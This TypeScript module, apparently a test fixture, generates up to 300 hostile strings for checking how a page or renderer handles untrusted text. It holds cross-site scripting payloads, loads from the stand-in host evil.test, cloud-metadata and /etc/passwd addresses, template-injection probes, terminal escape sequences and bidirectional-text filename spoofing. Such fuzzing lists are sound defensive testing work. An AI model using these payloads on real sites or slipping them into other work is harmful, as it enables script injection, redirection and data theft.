/**
 * 300 texts that would do something in a page that takes them for more than text.
 *
 * @module
 */

const tags: readonly string[] = [
  ...[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
  ],
  ...[
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
  ],
  ...[
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<object data=//evil.test>",
    "<embed src=//evil.test>",
  ],
  ...[
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test>",
  ],
  ...[
    "<style>@import'//evil.test'</style>",
    "<form action=//evil.test><button>ok</button></form>",
    "<math><mi xlink:href=javascript:alert(1)>",
  ],
  ...[
    "<a href=javascript:alert(1)>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  ],
  ...[
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><iframe srcdoc=x></svg>",
  ],
  ...[
    "<img src=//evil.test/pixel.png>",
    "<audio src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<portal src=//evil.test>",
  ],
  ...[
    "<x onclick=alert(1)>click",
    "<button popovertarget=x onbeforetoggle=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
  ],
];
const addresses: readonly string[] = [
  ...[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://%0aalert(1)",
    "\u0001javascript:alert(1)",
  ],
  ...[
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "//evil.test",
    "https://evil.test/x",
  ],
  ...[
    "http://169.254.169.254/",
    "file:///etc/passwd",
    "blob:null/x",
    "https://good.test@evil.test/",
    "https://evil.test/\u202egnp.exe",
  ],
];
const words: readonly string[] = [
  ...[
    "[x](javascript:alert(1))",
    "![x](https://evil.test/pixel.png)",
    "[![x](x)](javascript:alert(1))",
    "<https://evil.test>",
    "`${alert(1)}`",
  ],
  ...[
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    "{{7*7}}",
    "[[${7*7}]]",
  ],
  ...[
    "\u001b[31mred\u001b[0m",
    "\u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007",
    "\u001b[2J\u001b[H",
    "\u009b31m",
    "a\u0008\u0008b",
  ],
  ...[
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "\u200bzero",
    "\u{e0041}\u{e0042}",
    "\ufeffbom",
    "A\u0300\u0301\u0302\u0303",
    "\u{1f468}\u200d\u{1f469}",
  ],
  ...[
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "null",
    "undefined",
    "NaN",
    "0",
    "-1",
    "'\"`",
    "\\",
    "\\u003cscript\\u003e",
  ],
  ...[
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3E",
    "\ud800",
    "\udc00x",
    "x".repeat(1_500),
  ],
];
/** What a text would have to break out of. */
const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea>${text}`,
  (text) => `</title></style></script>${text}`,
  (text) => `-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `{"a": "${text}"}`,
];

/** The texts, each another one. */
export function hostileTexts(): readonly string[] {
  const texts = new Set<string>([...addresses, ...words]);
  for (const wrap of wraps) for (const tag of tags) texts.add(wrap(tag));
  for (const address of addresses) texts.add(`see ${address} now`);
  return [...texts].slice(0, 300);
}
